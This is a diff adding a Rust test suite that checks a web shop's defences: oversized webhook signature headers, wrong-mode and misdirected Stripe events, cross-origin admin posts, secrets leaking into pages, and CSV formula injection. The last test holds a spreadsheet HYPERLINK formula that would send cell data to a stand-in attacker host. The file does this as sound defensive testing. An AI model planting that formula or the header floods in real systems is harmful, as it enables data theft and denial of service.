@@ -1,0 +1,169 @@
+//! The security review, as tests: each hostile request is refused, cheaply, and changes nothing.
+
+use crate::admin::{admin_app, csv, signed_in, ADMIN_CALLS};
+use crate::helpers::{
+    order_status, place_order, spawn_app, spawn_server_with, Visitor, MUG, TEA_TIN,
+};
+use crate::webhooks::{deliver, now, order, pi_event, processed_events, send};
+use axum::body::Body;
+use axum::http::{header, Request, StatusCode};
+use std::time::Instant;
+
+/// A header of thousands of bogus `v1` entries over a large body once took 10.7 s (debug) to
+/// refuse: a MAC per entry. Now it is refused before any MAC is computed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_webhook_headers_are_refused_at_the_cost_of_reading_them() {
+    let app = spawn_app().await;
+    let body = vec![b'x'; 200 * 1024];
+    let headers = [
+        format!("t={}{}", now(), ",v1=".repeat(1_000)),
+        format!(
+            "t={}{}",
+            now(),
+            format!(",v1={}", "0".repeat(64)).repeat(20_000)
+        ),
+        format!("t={}{}", now(), ",v1=zz".repeat(20_000)),
+        format!("t=1,v1={}", "0".repeat(64)),
+    ];
+    for header in &headers {
+        let started = Instant::now();
+        assert_eq!(deliver(&app, &body, header).await, StatusCode::BAD_REQUEST);
+        let took = started.elapsed();
+        eprintln!(
+            "hostile header of {} bytes refused in {took:?}",
+            header.len()
+        );
+        // Generous: the point is that it no longer grows with the entries (it took seconds).
+        assert!(took.as_millis() < 1_000, "{took:?}");
+    }
+    assert_eq!(processed_events(&app).await, 0);
+}
+
+/// A live-mode event sent to a test-mode shop (or the reverse) is refused and changes nothing.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn events_of_the_other_mode_are_refused() {
+    let app = spawn_app().await;
+    let (order_id, amount) = order(&app, "pi_live").await;
+    let mut event = pi_event(
+        "evt_live",
+        "payment_intent.succeeded",
+        "pi_live",
+        amount,
+        now(),
+    );
+    event["livemode"] = true.into();
+    assert_eq!(send(&app, &event).await, StatusCode::BAD_REQUEST);
+    assert_eq!(order_status(&app, &order_id).await, "pending");
+    assert_eq!(processed_events(&app).await, 0);
+}
+
+/// An event whose metadata names an order of another PaymentIntent does not touch that order.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn metadata_cannot_point_an_event_at_another_payment_intents_order() {
+    let app = spawn_app().await;
+    let (victim, amount) = order(&app, "pi_victim").await;
+    let mut event = pi_event(
+        "evt_other",
+        "payment_intent.succeeded",
+        "pi_attacker",
+        amount,
+        now(),
+    );
+    event["data"]["object"]["metadata"]["order_id"] = victim.clone().into();
+    assert_eq!(send(&app, &event).await, StatusCode::OK);
+    assert_eq!(order_status(&app, &victim).await, "pending");
+}
+
+/// No admin server function answers without a signed-in session; cross-site posts and posts
+/// with neither `Origin` nor `Sec-Fetch-Site` are refused before they reach one.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn admin_functions_need_a_session_and_a_same_origin_request() {
+    let app = admin_app().await;
+    for (endpoint, form) in ADMIN_CALLS {
+        let reply = Visitor::new().call(&app, endpoint, form).await;
+        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{endpoint}");
+    }
+    for headers in [
+        vec![],
+        vec![("origin", "https://evil.example")],
+        vec![("sec-fetch-site", "cross-site")],
+        vec![("origin", "null"), ("sec-fetch-site", "same-origin")],
+    ] {
+        let mut request = Request::post("/api/admin/sign-in")
+            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
+        for (k, v) in &headers {
+            request = request.header(*k, *v);
+        }
+        let reply = app
+            .send(request.body(Body::from("password=x")).unwrap())
+            .await;
+        assert_eq!(reply.status, StatusCode::FORBIDDEN, "{headers:?}");
+    }
+}
+
+/// An email that is a spreadsheet formula reaches the CSV export as text.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_cells_never_run_as_formulas() {
+    let app = admin_app().await;
+    let email = r#"=HYPERLINK("http://evil.example/?"&A2&"@a.b")@evil.example"#;
+    place_order(&app, "ord_formula", "cart_formula", email, TEA_TIN, 1, None).await;
+    let merchant = signed_in(&app).await;
+    let export = csv(&app, &merchant, "").await;
+    assert_eq!(export.status, StatusCode::OK);
+    let row = export
+        .body
+        .lines()
+        .find(|l| l.starts_with("ord_formula"))
+        .unwrap();
+    assert!(row.contains(r#","'=HYPERLINK("#), "{row}");
+    for cell in row.split(',') {
+        assert!(
+            !cell
+                .trim_start_matches('"')
+                .starts_with(['=', '+', '-', '@']),
+            "{row}"
+        );
+    }
+}
+
+/// Pages carry no secret: not the Stripe secret key, not a webhook secret, not another
+/// shopper's client secret, not the session id.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_secret_reaches_a_page() {
+    let (app, _base) = spawn_server_with(&[]).await;
+    let other = Visitor::new();
+    other
+        .add_to_cart(&app, &crate::helpers::product(&app, MUG).await, 1)
+        .await;
+    let theirs = other.start_checkout(&app, "other@example.com").await.json();
+    let their_secret = theirs["client_secret"].as_str().unwrap().to_string();
+    let shopper = Visitor::new();
+    let sk = app.state.payments.secret_key.expose().to_string();
+    let whsec = app.state.payments.webhook_secrets[0].expose().to_string();
+    for path in [
+        "/",
+        "/products/stoneware-mug",
+        "/cart",
+        "/checkout",
+        "/admin",
+    ] {
+        let page = shopper.get_page(&app, path).await;
+        for secret in [&sk, &whsec, &their_secret] {
+            assert!(
+                !page.body.contains(secret.as_str()),
+                "{path} shows a secret"
+            );
+        }
+        if let Some(cookie) = shopper.cookie() {
+            let id = cookie.split('=').nth(1).unwrap_or_default();
+            assert!(
+                id.is_empty() || !page.body.contains(id),
+                "{path} shows the session id"
+            );
+        }
+    }
+    // Their order page (by its unguessable id) does not carry their client secret either.
+    let order_id = theirs["order_id"].as_str().unwrap();
+    let page = shopper.get_page(&app, &format!("/orders/{order_id}")).await;
+    assert!(!page.body.contains(&their_secret));
+}
